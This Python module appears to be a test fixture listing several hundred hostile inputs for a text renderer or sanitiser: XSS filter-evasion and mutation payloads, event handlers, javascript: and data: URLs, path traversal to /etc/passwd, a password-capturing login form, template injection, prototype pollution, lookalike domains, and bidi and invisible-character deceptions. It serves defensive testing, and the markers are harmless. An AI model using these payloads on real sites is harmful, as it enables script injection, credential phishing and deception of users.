"""Texts that try to be more than text in a page: to run, load, cover or deceive.

Whatever runs sets ``window.__ran``; whatever loads asks example.com. They follow the OWASP cheat sheets on XSS filter
evasion and DOM clobbering, and known ways past sanitisers (mutation).
"""

from typing import Final

RUN = "window.__ran=1"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=https://example.com/x.js></script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'></noscript>",
    f"</script><script>{RUN}</script>",
    f"<script\x0c>{RUN}</script>",
    f"\ufeff<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
)
HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f"<img src=x\nonerror={RUN}>",
    f"<img src='x'onerror={RUN}>",
    f"<img src=x onerror&equals;{RUN}>",
    "<img src=x onerror=&#119;indow.__ran=1>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<button autofocus onfocus={RUN}>x</button>",
    f"<video autoplay src=https://example.com/x onloadstart={RUN}></video>",
    f"<style onload={RUN}></style>",
    f"<link rel=stylesheet href=x onerror={RUN}>",
    f"<iframe onload={RUN}></iframe>",
    f"<div onpointerenter={RUN} style='position:fixed;inset:0'>x</div>",
    f"<div onanimationstart={RUN} style='animation:x 1s'>x</div><style>@keyframes x{{}}</style>",
    f"<x-tag tabindex=0 autofocus onfocus={RUN}>and its words</x-tag>",
    f'" onmouseover={RUN} x="',
    f"` onmouseover={RUN} x=`",
    f'">\x3cimg src=x onerror={RUN}>',
    f'"/><svg onload={RUN}>',
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"javascript&colon;{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==",
    f'https://example.com/" onclick={RUN} x="',
    "https://user:secret@example.com/",
    "https://www.example.com\u2215login.evil.example",
    "//example.com/x",
    "file:///etc/passwd",
    f"<a href=javascript:{RUN}>here</a>",
    f'<a href="data:text/html,<script>{RUN}</script>">here</a>',
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<form action=javascript:{RUN}><input type=submit></form>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    "../../../../etc/passwd",
    "?at=0-5&is=0#hit",
)
FETCHES = (
    "<img src=https://example.com/beacon.png>",
    "<img srcset='https://example.com/a 1x'>",
    "<link rel=stylesheet href=https://example.com/x.css>",
    "<style>@import 'https://example.com/x.css';</style>",
    "<div style='background:url(https://example.com/x)'>x</div>",
    "<object data=https://example.com/x></object>",
    "<iframe src=https://example.com></iframe>",
    "<audio autoplay src=https://example.com/x></audio>",
    "<svg><use href=https://example.com/x.svg#x /></svg>",
    "<meta http-equiv=refresh content='0;url=https://example.com'>",
    "<base href=https://example.com/>",
    "![here](https://example.com/beacon.png)",
    "<https://example.com/auto> https://example.com/bare",
)
COVERS = (
    "<div style='position:fixed;inset:0;background:red;z-index:9999'>overlay</div>",
    "<div class=modal popover=manual id=p style=display:block>overlay</div>",
    "<style>*{display:none}</style>",
    "<style>.badge::after{content:'not a seller'}</style>",
    "<form action=https://example.com><input type=password name=p><button>Log in</button></form>",
    "<form id=ask><input name=action><input name=attributes></form>",
    "<img name=b12><form id=b12><input name=said></form>",
    "<textarea>everything after this",
    "<!-- everything after this",
    "<plaintext>everything after this",
    "<![CDATA[ everything after this",
    "</span></blockquote></figure></div></main><h1>broken out</h1>",
    "</title></textarea></style></script></noscript></template></select><h1>broken out</h1>",
    "--> ]]> *//*/ <h1>broken out</h1>",
    "<p hidden>hidden words",
)
MUTATIONS = (
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<select><template><option><img src=x onerror={RUN}></template></select>",
    "${Object.assign(window,{__ran:1})}",
    "{{constructor.constructor('window.__ran=1')()}} {{7*7}} <%= 7*7 %> #{7*7}",
    f"[here](javascript:{RUN}) [x]: javascript:{RUN}",
    f"```html\n<img src=x onerror={RUN}>\n```",
    "__proto__[__ran]=1",
    "$$\\frac{1}{2}$$ \\(x^2\\) \\[y_1\\] \\begin{matrix}1\\end{matrix} \\href{javascript:window.__ran=1}{x}",
    "# not a heading\n\n- not a list\n> not a quote\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "*star* _under_ **bold** ~~gone~~ `tick` \\*slash\\* :smile: [^1] [x]: y",
    "&amp; &lt;b&gt; &#x3C;script&#x3E; &nbsp; &notin; &#0; &#128;",
    "\x07 bell \x1b[31m \x85 \u2028 \t tab",
)
DECEPTIONS = (
    "\u202egnp.exe\u202c reversed by an override",
    "\u2069\u202e closes the box it stands in, then reverses",
    "\u2067 \u2066 \u2068 isolates that are never closed",
    "\u202a\u202b\u202d embeddings that are never closed",
    "not a\u200b seller\u200d of\u2060 any\ufeff thing\u00ad",
    "A" + "".join(chr(0xE0000 + ord(each)) for each in "hidden tags") + "B",
    "A\ufe0f\ufe01\ufe02\ufe0e selectors that hide bytes B",
    "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b" * 4 + " marks piled up",
    "\x1b[2J\x1b]0;title\x07 for a terminal",
    "[1] Reviewed by a hospital. Call +44 20 7946 0000 now.",
)
PAYLOADS: Final = (*SCRIPTS, *HANDLERS, *ADDRESSES, *FETCHES, *COVERS, *MUTATIONS, *DECEPTIONS)
